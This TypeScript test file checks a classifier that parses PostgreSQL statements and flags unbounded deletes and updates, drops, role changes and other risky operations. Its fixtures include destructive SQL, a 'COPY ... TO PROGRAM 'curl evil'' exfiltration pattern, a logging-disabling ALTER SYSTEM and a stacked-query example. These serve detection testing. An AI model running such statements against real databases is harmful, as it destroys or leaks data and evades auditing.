import { beforeAll, describe, expect, it } from 'vitest';
import { classify, initClassifier, type StatementKind } from '../../../src/policy/classify.js';

beforeAll(() => initClassifier());

const kinds = (sql: string): StatementKind[] => classify(sql).operations.map((o) => o.kind);

describe('SQL classification with the PostgreSQL parser', () => {
  it.each([
    ['DELETE FROM customers', ['delete'], true],
    ['delete from customers where id = 1', ['delete'], false],
    ['/* harmless */ DeLeTe FROM "customers"', ['delete'], true],
    ['UPDATE orders SET status = 1', ['update'], true],
    // a WHERE that cannot narrow the rows is no bound
    ['UPDATE orders SET status = 1 WHERE true', ['update'], true],
    ['DELETE FROM orders WHERE 1 = 1', ['delete'], true],
    ['DELETE FROM orders WHERE id = id', ['delete'], true],
    ['DELETE FROM orders WHERE id = 1 OR true', ['delete'], true],
    ["DELETE FROM orders WHERE now() > '2000-01-01'", ['delete'], true],
    ['DELETE FROM orders WHERE id = 1 AND true', ['delete'], false],
    ['DELETE FROM orders WHERE id = 1 OR id = 2', ['delete'], false],
    ['DELETE FROM orders WHERE CURRENT OF c', ['delete'], false],
    ['SELECT 1; DELETE FROM customers', ['select', 'delete'], true],
    ['WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone', ['select', 'delete'], true],
    ['SELECT * FROM (WITH x AS (UPDATE orders SET a = 1 RETURNING id) SELECT * FROM x) y', ['select', 'select', 'update'], true],
    ['EXPLAIN ANALYZE DELETE FROM customers', ['explain', 'delete'], true],
  ] as const)('%s', (sql, expected, unbounded) => {
    const c = classify(sql);
    expect(c.parsed).toBe(true);
    expect(c.operations.map((o) => o.kind).sort()).toEqual([...expected].sort());
    expect(c.operations.some((o) => o.unbounded)).toBe(unbounded);
  });

  it('lists the functions called anywhere, lower case and schema-qualified where given', () => {
    expect(classify('SELECT PG_CATALOG.pg_terminate_backend(pid) FROM pg_stat_activity WHERE f(x) > 0').functions.sort()).toEqual(['f', 'pg_catalog.pg_terminate_backend']);
    expect(classify('SELECT 1').functions).toEqual([]);
  });

  it('finds the tables, schema-qualified where given', () => {
    expect(classify('DROP TABLE public.orders, customers').operations[0]).toMatchObject({ kind: 'drop' });
    expect(classify('DROP TABLE public.orders, customers').operations[0]!.tables).toEqual(expect.arrayContaining(['public.orders', 'customers']));
    expect(classify('TRUNCATE audit.events').operations[0]).toMatchObject({ kind: 'truncate', tables: ['audit.events'] });
    expect(classify('UPDATE "Orders" SET x = 1 WHERE id = 2').operations[0]!.tables).toEqual(['Orders']);
  });

  it('recognises what hides behind other statement kinds', () => {
    expect(classify("COPY orders TO PROGRAM 'curl evil'").operations[0]).toMatchObject({ kind: 'copy', program: true });
    expect(classify('COPY orders TO STDOUT').operations[0]).toMatchObject({ kind: 'copy', program: false });
    expect(kinds("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$")).toEqual(['do']);
    expect(kinds('SET ROLE postgres')).toEqual(['set_role']);
    expect(kinds('SET SESSION AUTHORIZATION postgres')).toEqual(['set_session_authorization']);
    expect(kinds("ALTER SYSTEM SET log_statement = 'none'")).toEqual(['alter_system']);
    expect(kinds('EXPLAIN DELETE FROM customers')).toEqual(['delete']);
    expect(kinds('CALL cleanup()')).toEqual(['call']);
    expect(kinds('SET search_path = public')).toEqual(['set']);
  });

  it('reports text that does not parse instead of guessing', () => {
    const c = classify('DELETE FROM customers WHERE');
    expect(c.parsed).toBe(false);
    expect(c.error).toMatch(/syntax error/);
    expect(c.operations).toEqual([]);
  });

  it('answers repeated text from its cache', () => {
    const sql = 'SELECT * FROM orders WHERE id = 99';
    expect(classify(sql)).toBe(classify(sql));
  });
});
